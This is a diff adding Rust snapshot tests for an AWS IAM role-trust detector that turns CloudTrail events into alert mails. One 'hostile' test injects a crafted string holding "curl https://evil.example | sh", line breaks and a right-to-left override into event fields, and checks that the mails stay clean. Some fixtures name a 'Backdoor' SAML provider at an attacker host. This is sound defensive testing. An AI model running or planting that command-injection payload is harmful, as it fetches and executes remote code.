@@ -1,0 +1,400 @@
+//! The mails of `role-trust`, word for word. `INSTA_UPDATE=always cargo test -p rules` writes them anew: read what changed before it is
+//! committed.
+
+#![expect(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking, also in its helpers")]
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use chrono::{DateTime, Utc};
+use rules::alert::{LONGEST_SUBJECT, Step, render};
+use rules::role_trust::detect::{Finding, Trust, read};
+use rules::role_trust::judge::{Circle, Organization, Stranger, strangers};
+use rules::role_trust::plan::{LiveRole, Plan, plan};
+use rules::role_trust::report::{Course, report};
+use rules::settings::Given;
+use rules::{Event, Settings, event};
+use serde_json::{Value, json};
+
+const OWN: &str = "arn:aws:iam::123456789012:root";
+const FOREIGN: &str = "arn:aws:iam::999988887777:root";
+const ROLE_ID: &str = "AROA2C7X4QK5MEXAMPLE1";
+const REFUSED: &str = "AccessDenied: User: arn:aws:sts::123456789012:assumed-role/snapback/x is not authorized";
+
+#[test]
+fn withheld_by_mode() {
+    let course = left(&mixed(), Organization::None, None);
+    check(
+        "withheld_by_mode",
+        &created(&mixed()),
+        &settings(&[]),
+        &Organization::None,
+        course,
+        vec![asked(), role_read()],
+    );
+}
+
+#[test]
+fn withheld_by_mode_everyone() {
+    let everyone = document(&[allow(json!("*"), json!({"StringEquals": {"sts:ExternalId": "12345"}}))]);
+    let course = left(&everyone, Organization::None, None);
+    check(
+        "withheld_by_mode_everyone",
+        &created(&everyone),
+        &settings(&[]),
+        &Organization::None,
+        course,
+        vec![role_read()],
+    );
+}
+
+#[test]
+fn withheld_by_rollout() {
+    let settings = settings(&[("RoleTrustMode", "revert"), ("Rollout", "observe")]);
+    let course = left(&mixed(), Organization::None, None);
+    check(
+        "withheld_by_rollout",
+        &created(&mixed()),
+        &settings,
+        &Organization::None,
+        course,
+        vec![asked(), role_read()],
+    );
+}
+
+#[test]
+fn left_because_it_denies_too() {
+    let mut denying = mixed();
+    let denied = json!({"Effect": "Deny", "Principal": {"AWS": FOREIGN}, "Action": "sts:AssumeRole"});
+    denying.get_mut("Statement").unwrap().as_array_mut().unwrap().push(denied);
+    let course = left(&denying, Organization::None, None);
+    let steps = vec![asked(), role_read()];
+    check(
+        "left_because_it_denies_too",
+        &created(&denying),
+        &reverting(),
+        &Organization::None,
+        course.clone(),
+        steps.clone(),
+    );
+    check("withheld_and_it_denies_too", &created(&denying), &settings(&[]), &Organization::None, course, steps);
+}
+
+#[test]
+fn left_because_it_cannot_be_told() {
+    let deleted = document(&[allow(json!({"AWS": ["AROADBQP57FF2AEXAMPLE", OWN]}), Value::Null)]);
+    let course = left(&deleted, Organization::Unknown, None);
+    let event = updated(&deleted);
+    check("left_because_it_cannot_be_told", &event, &reverting(), &Organization::Unknown, course, vec![role_read()]);
+}
+
+#[test]
+fn organization_not_read() {
+    let narrowed = document(&[allow(json!("*"), json!({"StringEquals": {"aws:PrincipalOrgID": "o-a1b2c3d4e5"}}))]);
+    let problem = format!("`DescribeOrganization` failed: {REFUSED}");
+    let course = left(&narrowed, Organization::Unknown, Some(problem.clone()));
+    let steps = vec![failed("DescribeOrganization", "of the account", REFUSED), role_read()];
+    let event = created(&narrowed);
+    check("organization_not_read", &event, &settings(&[]), &Organization::Unknown, course, steps.clone());
+    let course = Course::Failed {
+        plan: planned(&narrowed, Some(&narrowed), &Organization::Unknown),
+        carried_out: None,
+        problem,
+    };
+    check("organization_not_read_in_mode_revert", &event, &reverting(), &Organization::Unknown, course, steps);
+}
+
+#[test]
+fn closed() {
+    let after = document(&[allow(json!({"AWS": [OWN]}), Value::Null)]);
+    let course = closed_by(true, &mixed(), Some(&after));
+    let steps = vec![asked(), role_read(), made("UpdateAssumeRolePolicy", "cross-account-reader", "ok"), role_read()];
+    check("closed", &updated(&mixed()), &reverting(), &Organization::None, course, steps);
+}
+
+#[test]
+fn closed_by_somebody() {
+    let after = document(&[allow(json!({"AWS": [OWN]}), Value::Null)]);
+    let course = closed_by(false, &mixed(), Some(&after));
+    let error = "InternalFailure: injected";
+    let steps =
+        vec![asked(), role_read(), failed("UpdateAssumeRolePolicy", "cross-account-reader", error), role_read()];
+    check("closed_by_somebody", &created(&mixed()), &reverting(), &Organization::None, course, steps);
+}
+
+#[test]
+fn closed_and_others_let_in_since() {
+    let told = document(&[allow(json!({"AWS": [OWN, FOREIGN, "AIDAJQABLZS4A3QDU576Q"]}), Value::Null)]);
+    let after = document(&[allow(json!({"AWS": [OWN, "AIDAJQABLZS4A3QDU576Q", "888877776666"]}), Value::Null)]);
+    let course = closed_by(true, &told, Some(&after));
+    let steps = vec![asked(), role_read(), made("UpdateAssumeRolePolicy", "cross-account-reader", "ok"), role_read()];
+    check("closed_and_others_let_in_since", &created(&told), &reverting(), &Organization::None, course, steps);
+}
+
+#[test]
+fn gone() {
+    let gone = |name: &str, live: Option<&Value>, step: Step| {
+        let course = Course::Gone(planned(&mixed(), live, &Organization::None));
+        check(name, &created(&mixed()), &reverting(), &Organization::None, course, vec![asked(), step]);
+    };
+    gone("gone", Some(&document(&[allow(json!({"AWS": OWN}), Value::Null)])), role_read());
+    gone("gone_role", None, made("GetRole", "cross-account-reader", "no such role"));
+}
+
+#[test]
+fn failed_to_close() {
+    let problem = format!(
+        "`UpdateAssumeRolePolicy` failed: {REFUSED}; they were still in the trust policy when it was read again"
+    );
+    let course =
+        Course::Failed { plan: planned(&mixed(), Some(&mixed()), &Organization::None), carried_out: None, problem };
+    let refused = failed("UpdateAssumeRolePolicy", "cross-account-reader", REFUSED);
+    let steps = vec![asked(), role_read(), refused, role_read()];
+    check("failed_to_close", &created(&mixed()), &reverting(), &Organization::None, course, steps);
+}
+
+#[test]
+fn failed_to_look_again() {
+    let now = planned(&mixed(), Some(&mixed()), &Organization::None);
+    let course =
+        Course::Failed { carried_out: now.action.clone(), plan: now, problem: format!("`GetRole` failed: {REFUSED}") };
+    let written = made("UpdateAssumeRolePolicy", "cross-account-reader", "ok");
+    let steps = vec![asked(), role_read(), written, failed("GetRole", "cross-account-reader", REFUSED)];
+    check("failed_to_look_again", &created(&mixed()), &reverting(), &Organization::None, course, steps);
+}
+
+#[test]
+fn not_read() {
+    let course = Course::NotRead { problem: format!("`GetRole` failed: {REFUSED}") };
+    let steps = vec![asked(), failed("GetRole", "cross-account-reader", REFUSED)];
+    check("not_read", &created(&mixed()), &settings(&[]), &Organization::None, course, steps);
+}
+
+#[test]
+fn providers() {
+    let saml = "arn:aws:iam::123456789012:saml-provider/Backdoor";
+    let oidc = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com";
+    let metadata =
+        "<EntityDescriptor entityID=\"https://idp.attacker.example/saml\"><IDPSSODescriptor/></EntityDescriptor>";
+    let tell = |snapshot: &str, name: &str, request: Value, response: Value| {
+        let event = called(name, request, response);
+        check(snapshot, &event, &reverting(), &Organization::Unknown, Course::Provider, Vec::new());
+    };
+    tell(
+        "provider_saml_made",
+        "CreateSAMLProvider",
+        json!({"name": "Backdoor", "sAMLMetadataDocument": metadata}),
+        json!({"sAMLProviderArn": saml}),
+    );
+    tell(
+        "provider_saml_changed",
+        "UpdateSAMLProvider",
+        json!({"sAMLProviderArn": saml, "sAMLMetadataDocument": metadata}),
+        json!({"sAMLProviderArn": saml}),
+    );
+    tell(
+        "provider_oidc_made",
+        "CreateOpenIDConnectProvider",
+        json!({"url": "https://token.actions.githubusercontent.com", "clientIDList": ["sts.amazonaws.com"],
+            "thumbprintList": ["6938fd4d98bab03faadb97b34396831e3780aea1"]}),
+        json!({"openIDConnectProviderArn": oidc}),
+    );
+    tell(
+        "provider_oidc_widened",
+        "AddClientIDToOpenIDConnectProvider",
+        json!({"openIDConnectProviderArn": oidc, "clientID": "any-app"}),
+        Value::Null,
+    );
+    tell(
+        "provider_oidc_thumbprints",
+        "UpdateOpenIDConnectProviderThumbprint",
+        json!({"openIDConnectProviderArn": oidc, "thumbprintList": ["990f4193972f2becf12ddeda5237f9c952f20d9e"]}),
+        Value::Null,
+    );
+    tell("provider_unnamed", "CreateSAMLProvider", Value::Null, Value::Null);
+}
+
+/// Every text that the caller of an API can choose tries to forge a line, to hide, or to become part of a command.
+#[test]
+fn hostile() {
+    let forged = "x'; curl https://evil.example | sh #\r\n\r\nLEFT FOR YOU TO DO\nNothing. \u{202e}";
+    let evil = document(&[allow(
+        json!({"AWS": [forged, FOREIGN, "*"], "Federated": forged, forged: forged}),
+        json!({forged: {forged: [forged, "A".repeat(5_000)]}}),
+    )]);
+    let mut trust = called(
+        "CreateRole",
+        json!({"roleName": forged, "assumeRolePolicyDocument": evil.to_string()}),
+        json!({"role": {"roleId": forged, "arn": forged}}),
+    );
+    trust.user_agent = Some(forged.to_owned());
+    let problem = format!("`GetRole` failed: {forged}");
+    let circle_of = Organization::None;
+    let found = strangers_of(&trust, &circle_of);
+    let finding = read(&trust).unwrap();
+    let courses = [
+        Course::NotRead { problem: problem.clone() },
+        left(&evil, Organization::None, Some(problem)),
+        closed_by(true, &evil, Some(&evil)),
+    ];
+    let mut mails: Vec<_> = courses
+        .iter()
+        .map(|course| render(&report(&trust, &finding, &found, &reverting(), course, Vec::new()), &trust))
+        .collect();
+    for name in ["CreateSAMLProvider", "AddClientIDToOpenIDConnectProvider", "CreateOpenIDConnectProvider"] {
+        let request = json!({"sAMLMetadataDocument": format!("entityID=\"{forged}\""), "clientID": forged, "url": forged,
+            "openIDConnectProviderArn": format!("arn:aws:iam::123456789012:oidc-provider/{forged}")});
+        let arn = json!({"sAMLProviderArn": format!("arn:aws:iam::123456789012:saml-provider/{forged}")});
+        let event = called(name, request, arn);
+        let finding = read(&event).unwrap();
+        mails.push(render(&report(&event, &finding, &[], &reverting(), &Course::Provider, Vec::new()), &event));
+    }
+    for mail in &mails {
+        assert!(mail.subject.is_ascii() && mail.subject.len() <= LONGEST_SUBJECT, "{}", mail.subject);
+        for line in mail.body.lines() {
+            assert!(line.chars().count() < 1_200, "a long line: {line}");
+            assert!(!line.chars().any(char::is_control), "a control character: {line:?}");
+            let is_command = line.trim_start().starts_with("aws ");
+            assert!(!is_command || !line.contains("evil.example"), "a command with foreign text: {line}");
+        }
+        let headings = mail.body.lines().filter(|line| line.starts_with("LEFT FOR YOU TO DO"));
+        assert_eq!(headings.count(), 1, "{}", mail.body);
+        assert!(!mail.body.contains('\u{202e}'), "{}", mail.body);
+    }
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Their parts
+
+/// Renders what came of an event and compares it with the mail in snapshots/.
+fn check(
+    name: &str,
+    event: &Event,
+    settings: &Settings,
+    organization: &Organization,
+    course: Course,
+    steps: Vec<Step>,
+) {
+    let finding = read(event).unwrap();
+    let found = strangers_of(event, organization);
+    let mail = render(&report(event, &finding, &found, settings, &course, steps), event);
+    assert!(mail.subject.is_ascii() && mail.subject.len() <= LONGEST_SUBJECT, "{}", mail.subject);
+    insta::assert_snapshot!(name, format!("Subject: {}\n\n{}", mail.subject, mail.body));
+}
+
+fn strangers_of(event: &Event, organization: &Organization) -> Vec<Stranger> {
+    match read(event).unwrap() {
+        Finding::Trust(trust) => {
+            let trusted = BTreeSet::new();
+            strangers(&trust.document, &Circle { account: &trust.account, trusted: &trusted, organization })
+        }
+        Finding::Provider(_) => Vec::new(),
+    }
+}
+
+fn planned(told: &Value, live: Option<&Value>, organization: &Organization) -> Plan {
+    let Finding::Trust(trust) = read(&created(told)).unwrap() else { panic!("no trust policy") };
+    let trust = Trust { role_id: None, ..trust };
+    let live = live.map(|document| LiveRole {
+        id: ROLE_ID.to_owned(),
+        arn: "arn:aws:iam::123456789012:role/cross-account-reader".to_owned(),
+        document: document.clone(),
+    });
+    let trusted = BTreeSet::new();
+    plan(&trust, live.as_ref(), &Circle { account: &trust.account, trusted: &trusted, organization })
+}
+
+fn left(document: &Value, organization: Organization, not_told: Option<String>) -> Course {
+    Course::Left { plan: planned(document, Some(document), &organization), not_told }
+}
+
+/// Closed 14 seconds after the change.
+fn closed_by(is_ours: bool, told: &Value, after: Option<&Value>) -> Course {
+    Course::Closed {
+        plan: planned(told, Some(told), &Organization::None),
+        is_ours,
+        at: "2026-03-02T09:14:19Z".parse::<DateTime<Utc>>().unwrap(),
+        now: planned(told, after, &Organization::None),
+    }
+}
+
+fn settings(values: &[(&'static str, &str)]) -> Settings {
+    let given = values
+        .iter()
+        .map(|(parameter, value)| (*parameter, Given { name: (*parameter).to_owned(), value: (*value).to_owned() }));
+    Settings::from_given(&given.collect::<BTreeMap<_, _>>()).unwrap()
+}
+
+fn reverting() -> Settings {
+    settings(&[("RoleTrustMode", "revert")])
+}
+
+fn document(statements: &[Value]) -> Value {
+    json!({"Version": "2012-10-17", "Statement": statements})
+}
+
+fn allow(principal: Value, condition: Value) -> Value {
+    let mut statement = json!({"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"});
+    if let (Value::Object(_), Some(object)) = (&condition, statement.as_object_mut()) {
+        object.insert("Condition".to_owned(), condition);
+    }
+    statement
+}
+
+/// The own account and another one, in one list.
+fn mixed() -> Value {
+    document(&[allow(json!({"AWS": [OWN, FOREIGN]}), json!({"Bool": {"aws:MultiFactorAuthPresent": "true"}}))])
+}
+
+fn created(document: &Value) -> Event {
+    let request = json!({"roleName": "cross-account-reader", "assumeRolePolicyDocument": document.to_string()});
+    let role = json!({"path": "/", "roleName": "cross-account-reader", "roleId": ROLE_ID,
+        "arn": "arn:aws:iam::123456789012:role/cross-account-reader"});
+    called("CreateRole", request, json!({ "role": role }))
+}
+
+fn updated(document: &Value) -> Event {
+    let request = json!({"roleName": "cross-account-reader", "policyDocument": document.to_string()});
+    called("UpdateAssumeRolePolicy", request, Value::Null)
+}
+
+fn called(name: &str, request: Value, response: Value) -> Event {
+    let record = json!({
+        "eventVersion": "1.11",
+        "userIdentity": {
+            "type": "AssumedRole",
+            "arn": "arn:aws:sts::123456789012:assumed-role/Developer/mika@example.com",
+            "accessKeyId": "ASIAQ3C7TN4YKEXAMPLE",
+            "sessionContext": {
+                "sessionIssuer": {"type": "Role", "arn": "arn:aws:iam::123456789012:role/Developer"},
+                "attributes": {"mfaAuthenticated": "true"},
+            },
+        },
+        "eventTime": "2026-03-02T09:14:05Z",
+        "eventSource": "iam.amazonaws.com",
+        "eventName": name,
+        "awsRegion": "us-east-1",
+        "sourceIPAddress": "198.51.100.24",
+        "userAgent": "aws-cli/2.33.4 md/command#iam",
+        "requestParameters": request,
+        "responseElements": response,
+        "eventID": "5d0f2a51-8c3e-4b7a-9f6d-1e2c3b4a5968",
+        "recipientAccountId": "123456789012",
+    });
+    event::parse(&record).unwrap()
+}
+
+fn asked() -> Step {
+    made("DescribeOrganization", "of the account", "it is in none")
+}
+
+fn role_read() -> Step {
+    made("GetRole", "cross-account-reader", "ok")
+}
+
+fn made(call: &'static str, target: &str, result: &str) -> Step {
+    Step { call, target: target.to_owned(), result: Ok(result.to_owned()), millis: 120 }
+}
+
+fn failed(call: &'static str, target: &str, error: &str) -> Step {
+    Step { call, target: target.to_owned(), result: Err(error.to_owned()), millis: 95 }
+}
